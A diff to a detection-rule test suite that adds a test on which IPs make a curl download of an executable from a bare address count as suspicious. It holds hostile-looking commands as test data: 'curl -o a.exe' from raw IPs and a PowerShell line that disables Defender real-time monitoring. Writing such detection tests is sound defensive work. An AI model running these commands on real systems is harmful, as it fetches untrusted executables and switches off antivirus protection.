@@ -66,6 +66,17 @@ def test_everyday_commands_are_not_told() -> None:
     assert not told
 
 
+def test_addresses_inside_are_no_bare_addresses() -> None:
+    told = "a program or script is fetched from a bare address"
+    for address, outside in {
+        "10.0.3.4": False, "192.168.1.9": False, "172.16.0.9": False, "172.31.255.9": False, "127.0.0.1": False,
+        "172.15.0.9": True, "172.32.0.9": True, "172.217.3.4": True, "203.0.113.9": True,
+    }.items():  # fmt: skip
+        command = f"curl -o a.exe http://{address}/a.exe"
+        event = {"kind": "process", "ts": 1.0, "event_id": "1", "format": "t", "command_line": command}
+        assert (told in {HOST_RULES.rules[k].title for k in _hits([event])[0]}) is outside, address
+
+
 def test_lines_are_looked_at_as_commands_are() -> None:
     line = {"kind": "line", "ts": 1.0, "event_id": "1", "format": "t"}
     script = "Set-MpPreference -DisableRealtimeMonitoring $true"
